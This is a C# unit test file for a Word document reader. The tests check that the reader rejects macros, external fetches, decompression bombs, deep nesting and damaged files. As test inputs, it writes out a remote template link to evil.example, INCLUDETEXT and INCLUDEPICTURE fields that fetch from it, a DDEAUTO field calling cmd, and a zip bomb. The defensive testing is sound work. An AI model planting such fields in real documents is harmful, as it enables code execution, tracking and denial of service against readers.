using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using Serai.Features.Agreements.Wording;
using Serai.Features.Agreements.Wording.Word;
using static Serai.Tests.Features.Agreements.Wording.WordFiles;

namespace Serai.Tests.Features.Agreements.Wording;

/// <summary>Files that lie about what they are, or do more than hold a text.</summary>
public sealed class WordRefusedTests
{
    private static WordingProblem Refused(byte[] file)
    {
        Assert.Null(WordIn.Read(file, out var problems));
        return Assert.Single(problems);
    }

    private static readonly byte[] Plain = Of(P("text"));

    [Fact]
    public void What_is_no_document_is_told_whatever_it_is_called()
    {
        Assert.Equal(WordingProblemCode.WordEmpty, Refused([]).Code);
        Assert.Equal(WordingProblemCode.NotWord, Refused("just text"u8.ToArray()).Code);
        Assert.Equal(WordingProblemCode.NotWord, Refused("%PDF-1.7"u8.ToArray()).Code);
        Assert.Equal(WordingProblemCode.NotWord, Refused(Zip(("a.txt", "a"))).Code);
        using var workbook = new MemoryStream();
        using (var made = SpreadsheetDocument.Create(workbook, SpreadsheetDocumentType.Workbook))
            made.AddWorkbookPart().Workbook = new(new DocumentFormat.OpenXml.Spreadsheet.Sheets());
        Assert.Equal(WordingProblemCode.NotWord, Refused(workbook.ToArray()).Code);
    }

    [Fact]
    public void An_old_document_or_one_with_a_password_is_told_so() =>
        Assert.Equal(WordingProblemCode.WordOldOrLocked, Refused([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]]).Code);

    [Fact]
    public void A_program_in_it_is_refused_however_it_is_hidden()
    {
        Assert.Equal(WordingProblemCode.WordMacro, Refused(Of(P("text"), type: WordprocessingDocumentType.MacroEnabledDocument)).Code);
        Assert.Equal(WordingProblemCode.WordMacro, Refused(Of(P("text"), main => main.AddNewPart<VbaProjectPart>().FeedData(new MemoryStream([1, 2, 3])))).Code);
        Assert.Equal(WordingProblemCode.WordMacro, Refused(WithEntry(Plain, "word/vbaProject.bin", s => s.Write([1]))).Code);
        Assert.Equal(WordingProblemCode.WordMacro, Refused(WithEntry(Plain, "word/activeX/activeX1.bin", s => s.Write([1]))).Code);
        Assert.Equal(WordingProblemCode.WordMacro, Refused(Of("<w:p><w:fldSimple w:instr=\" MACROBUTTON Run click \"/></w:p>")).Code);
    }

    [Fact]
    public void What_it_would_fetch_is_named_and_not_fetched()
    {
        const string Template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", Image = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";
        var template = Of(P("text"), main => main.AddNewPart<DocumentSettingsPart>("rId5").AddExternalRelationship(Template, new("https://evil.example/t.dotm")));
        Assert.Equal(new(WordingProblemCode.WordOutside, "https://evil.example/t.dotm"), Refused(template));
        var picture = Of(P("text"), main => main.AddExternalRelationship(Image, new(@"file://server/share/p.png")));
        Assert.Equal(WordingProblemCode.WordOutside, Refused(picture).Code);
        var page = Of(P("text"), main => main.AddAlternativeFormatImportPart(AlternativeFormatImportPartType.Html).FeedData(new MemoryStream("<img src='https://evil.example/seen.gif'>"u8.ToArray())));
        Assert.Equal(WordingProblemCode.WordOutside, Refused(page).Code);
    }

    [Theory]
    [InlineData("<w:fldSimple w:instr=' INCLUDETEXT \"https://evil.example/a.docx\" '/>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>")]
    [InlineData("<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>includepicture \"http://evil.example/p\"</w:instrText></w:r>")]
    public void A_field_that_fetches_is_refused(string field) => Assert.Equal(WordingProblemCode.WordOutside, Refused(Of($"<w:p>{field}</w:p>")).Code);

    [Fact]
    public void A_field_that_fetches_is_found_in_the_head_of_the_pages_too() => Assert.Equal(WordingProblemCode.WordOutside, Refused(Of(P("text"), main => main.AddNewPart<HeaderPart>().Header =
        new(new DocumentFormat.OpenXml.Wordprocessing.Paragraph(new DocumentFormat.OpenXml.Wordprocessing.SimpleField { Instruction = " INCLUDEPICTURE \"https://evil.example/seen.gif\" " })))).Code);

    [Fact]
    public void A_few_bytes_that_unpack_to_very_many_are_refused()
    {
        var zeros = new byte[1 << 20];
        void Write(Stream stream, int megabytes)
        {
            for (var i = 0; i < megabytes; i++)
                stream.Write(zeros);
        }

        var bomb = WithEntry(Plain, "word/media/a.bmp", s => Write(s, 300));
        Assert.True(bomb.Length < 10 << 20);
        Assert.Equal(WordingProblemCode.WordTooDense, Refused(bomb).Code);
        Assert.Equal(new(WordingProblemCode.WordTooDense, "32"), Refused(Of($"<!--{new string(' ', 33 << 20)}-->{P("text")}")));
        // All its parts together, not each by itself.
        var heads = Of(P("text"), main =>
        {
            for (var n = 0; n < 4; n++)
                using (var head = new StreamWriter(main.AddNewPart<HeaderPart>().GetStream(FileMode.Create)))
                    head.Write($"<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><!--{new string(' ', 10 << 20)}--><w:p/></w:hdr>");
        });
        Assert.Equal(new(WordingProblemCode.WordTooDense, "32"), Refused(heads));
        // Deeper than a program can call itself.
        var deep = string.Concat(Enumerable.Repeat("<w:sdt><w:sdtContent>", 100_000)) + P("text") + string.Concat(Enumerable.Repeat("</w:sdtContent></w:sdt>", 100_000));
        Assert.Equal(WordingProblemCode.WordTooDense, Refused(Of(deep)).Code);
        Assert.Equal(WordingProblemCode.WordTooLarge, Refused(new byte[WordIn.MostBytes + 1]).Code);
    }

    [Fact]
    public void A_document_that_is_cut_off_or_spoilt_is_told_so()
    {
        Assert.Equal(WordingProblemCode.WordDamaged, Refused(Plain[..(Plain.Length / 2)]).Code);
        Assert.Equal(WordingProblemCode.WordDamaged, Refused(Of("<w:p>")).Code);
        Assert.Equal(WordingProblemCode.WordDamaged, Refused(Of("]]></w:body></w:document><!DOCTYPE a [<!ENTITY b 'c'>]>")).Code);
    }

    [Fact]
    public void Whatever_byte_is_wrong_it_is_read_or_told()
    {
        var random = new Random(17);
        for (var i = 0; i < 400; i++)
        {
            var spoilt = Plain.ToArray();
            for (var j = 0; j < 1 + i % 4; j++)
                spoilt[random.Next(spoilt.Length)] = (byte)random.Next(256);
            Assert.True(WordIn.Read(spoilt, out var problems) is not null || problems.Count > 0);
        }
    }
}
